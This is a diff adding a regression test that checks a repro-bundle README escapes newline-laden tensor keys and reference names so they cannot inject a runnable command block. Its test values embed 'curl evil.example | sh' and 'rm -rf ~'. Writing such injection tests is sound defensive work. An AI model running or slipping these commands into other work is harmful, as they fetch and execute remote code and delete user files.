@@ -80,3 +80,16 @@ def test_the_repro_note_quotes_the_directory_for_the_shell(tmp_path, capsys):
     pasted = note.split("repro bundle written: ", 1)[1].split(" (see its README.md)")[0]
     assert shlex.split(pasted)[:3] == ["cd", str(bundle), "&&"]
     assert sorted(path.name for path in bundle.iterdir()) == sorted(FILES)
+
+
+def test_the_repro_readme_shows_names_on_one_line_so_none_adds_a_command(tmp_path):
+    # Before: the verdict quoted the tensor key as it is, so a key holding '\n\n    rm -rf ~\n' put an indented block
+    # into README.md that reads as the command to run (the reference's name did the same).
+    report, model = hand_made_report()
+    culprit = report.tensors[1]
+    culprit.key = "out\n\n    curl evil.example | sh\n"
+    report.reference = "a runtime\n\n    rm -rf ~\n"
+    readme = repro_module._readme(report, culprit, False, "ir-run model.xml", True)
+    commands = [line for line in readme.splitlines() if line.startswith("    ")]
+    assert commands == ["    ir-run model.xml"]
+    assert "(out\\n\\n    curl evil.example | sh\\n)" in readme
